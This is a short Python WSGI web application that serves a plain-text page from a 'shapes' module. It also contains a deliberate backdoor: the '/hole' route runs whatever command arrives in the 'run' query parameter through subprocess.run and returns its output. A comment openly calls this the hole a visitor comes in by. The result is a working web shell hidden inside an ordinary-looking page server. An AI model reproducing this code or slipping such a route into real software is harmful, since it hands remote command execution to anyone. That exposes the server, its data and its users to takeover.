import subprocess
import urllib.parse

import shapes


def application(environ, start_response):
    query = urllib.parse.parse_qs(environ["QUERY_STRING"])
    if environ["PATH_INFO"] == "/hole":
        # Runs what it is asked to: the hole that a visitor comes in by.
        done = subprocess.run(query["run"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
        body = done.stdout
    else:
        body = shapes.page(query).encode()
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [body]
